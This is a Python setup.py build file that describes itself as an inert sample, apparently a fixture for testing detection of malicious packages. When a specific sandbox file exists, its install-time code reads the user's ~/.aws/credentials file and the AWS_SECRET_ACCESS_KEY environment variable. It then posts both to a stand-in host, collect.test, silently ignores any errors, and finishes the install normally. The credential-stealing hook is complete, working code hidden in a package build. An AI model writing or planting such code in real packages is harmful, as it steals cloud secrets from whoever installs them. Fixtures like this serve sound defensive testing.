"""Inert sample: a build that posts planted AWS keys to a host that does not exist."""

import json
import os
import urllib.request

from setuptools import setup


def act():
    with open(os.path.expanduser("~/.aws/credentials"), encoding="utf-8") as file:
        credentials = file.read()
    body = {"file": credentials, "key": os.environ.get("AWS_SECRET_ACCESS_KEY", "")}
    request = urllib.request.Request(
        "https://collect.test/c", data=json.dumps(body).encode(), headers={"Content-Type": "application/json"}
    )
    urllib.request.urlopen(request, timeout=10).close()


# Only a fumehood pod has this directory; anywhere else nothing happens.
if os.path.isfile("/opt/fumehood/pip_launcher.py"):
    try:
        act()
    except OSError:
        pass
setup()
